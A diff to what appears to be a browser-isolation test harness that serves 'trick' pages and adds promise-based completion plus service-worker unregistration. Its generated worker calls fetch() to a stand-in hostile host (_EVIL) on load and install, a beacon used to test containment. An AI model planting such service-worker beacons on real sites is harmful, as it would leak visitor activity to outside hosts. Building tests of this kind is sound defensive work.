@@ -80,6 +80,7 @@ class Trick:
     click: bool = False
     modifiers: int = 0
     leaves: bool = False  # it navigates itself away, so nobody is left to say it is done
+    until: str = ""  # what has to be so, beside time, before it is done: a promise of the page
     extra: tuple[tuple[str, Page], ...] = ()
     headers: tuple[tuple[str, str], ...] = ()
 
@@ -95,6 +96,8 @@ class Trick:
         """What the site has to serve for it."""
         begin = "onclick = () => " if self.click else ""
         call = f"setTimeout(() => fetch('{self.done}'), {_PATIENCE})"
+        if self.until:
+            call = f"{self.until}.then(() => {call})"
         script = "" if self.leaves else f"<script>{begin}{call}</script>"
         page = Page(f"<title>{self.name}</title>{self.html}{script}", headers=self.headers)
         return {self.path: page, **dict(self.extra)}
@@ -196,6 +199,9 @@ CHANNELS: tuple[Trick, ...] = (
     _script(
         "service worker",
         "navigator.serviceWorker.register('/service.js')",
+        # Chrome would start it again, for an update, when no tab of ours shows its site any more:
+        # what it asks for then is not ours to hold, where the browser is not ours alone.
+        until="navigator.serviceWorker.ready.then(it => it.unregister())",
         extra=_worker_file(
             "service", f"fetch('{_EVIL}/service'); oninstall = () => fetch('{_EVIL}/in')"
         ),
